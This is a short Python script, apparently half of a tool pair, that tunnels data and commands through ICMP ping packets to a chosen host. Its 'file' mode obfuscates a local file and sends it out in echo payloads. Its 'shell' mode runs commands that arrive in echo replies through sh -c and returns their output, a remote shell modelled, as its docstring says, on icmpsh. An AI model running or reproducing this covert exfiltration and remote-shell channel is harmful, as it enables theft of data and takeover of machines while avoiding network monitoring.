# SPDX-License-Identifier: Apache-2.0
"""icmp_near.py file HOST FILE OTHER: sends FILE in pings, keeps what comes back as OTHER. icmp_near.py shell HOST: runs what
comes back, and says in the next ping what came of it, as icmpsh does.
"""

import socket
import struct
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "services"))
from icmp_far import PIECE, hidden, message

mode, host, *files = sys.argv[1:]
IDENT = 4711


def exchange(raw: socket.socket, number: int, payload: bytes) -> bytes:
    raw.sendto(message(8, IDENT, number, payload), (host, 0))
    while True:
        packet = raw.recv(65536)
        if struct.unpack_from(">BBHHH", packet, 20)[0::4] == (0, number):
            return packet[28:]


with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
    raw.settimeout(10)
    if mode == "file":
        data, back = Path(files[0]).read_bytes(), bytearray()
        for number in range(-(-len(data) // PIECE)):
            piece = hidden(data[number * PIECE : (number + 1) * PIECE], number)
            back += hidden(exchange(raw, number, piece), number + 1)
        Path(files[1]).write_bytes(back)
    else:
        said, number = b"", 0
        while (command := exchange(raw, number, said)) != b"exit":
            done = subprocess.run(["sh", "-c", command], capture_output=True, check=False)
            said, number = done.stdout[:PIECE], number + 1
